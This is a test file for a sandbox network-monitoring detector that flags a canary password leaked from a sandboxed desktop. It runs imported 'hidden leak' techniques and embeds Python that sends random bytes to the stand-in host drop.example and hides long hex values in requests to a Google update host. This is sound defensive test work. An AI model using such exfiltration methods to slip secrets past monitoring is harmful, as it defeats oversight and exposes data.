import { afterAll, beforeAll, expect, it } from 'vitest';
import { collectWeb } from '../../src/effect/web/collect-web.ts';
import type { SandboxDesktop } from '../../src/providers/sandbox/sandbox-desktop.ts';
import { SandboxProvider } from '../../src/providers/sandbox/sandbox-provider.ts';
import { hiddenLeaks } from '../../tools/escape/hidden-leaks.ts';
import { attemptPython } from './inside.ts';

/** A secret that leaves the desktop by a way that nobody looks at is found, whatever it was wrapped in. */
const provider = new SandboxProvider();
/** Doubled letters and digits, and nothing that a host name can't hold. */
const canaries = { password: 'harbor-aabbx7y2kkq99zwm3r' };
let desktop: SandboxDesktop;

beforeAll(async () => {
  await provider.check();
  desktop = await provider.create({ width: 1280, height: 720 });
});
afterAll(() => provider.close());

it.each(hiddenLeaks.map((one) => [one.name, one] as const))('%s', async (_, { account, code }) => {
  const start = Date.now();
  await attemptPython(desktop, account, `SECRET = ${JSON.stringify(canaries.password)}\n${code}`);
  const found = async (): Promise<string[]> => {
    const collector = collectWeb(canaries, (hash) => desktop.webBody(hash));
    const names: string[] = [];
    for (const entry of await desktop.webLog(start)) {
      const effect = await collector.effectOf(entry);
      names.push(...(effect?.detail.canaries ?? []).map(({ name }) => name));
    }
    return names;
  };
  // A connection tells when it ends.
  await expect.poll(found, { timeout: 20_000, interval: 300 }).toContain('password');
});

it('counts bytes that nobody can read, and long values to hosts that count as noise', async () => {
  const start = Date.now();
  await attemptPython(
    desktop,
    'user',
    `
import os, urllib.request
urllib.request.urlopen('http://drop.example/cipher', data=os.urandom(3000), timeout=10).read()
urllib.request.urlopen('http://update.googleapis.com/x?v=' + os.urandom(900).hex(), timeout=10).read()
urllib.request.urlopen('http://update.googleapis.com/usual?v=1', timeout=10).read()`,
  );
  const collector = collectWeb(canaries, (hash) => desktop.webBody(hash));
  const effects = [];
  for (const entry of await desktop.webLog(start)) effects.push(await collector.effectOf(entry));
  const sent = effects.filter((effect) => effect?.kind === 'requested');
  expect(sent.map((effect) => [effect?.detail.host, effect?.detail.unexplainedBytes])).toEqual([
    ['drop.example', 3000],
    ['update.googleapis.com', expect.any(Number)],
  ]);
});
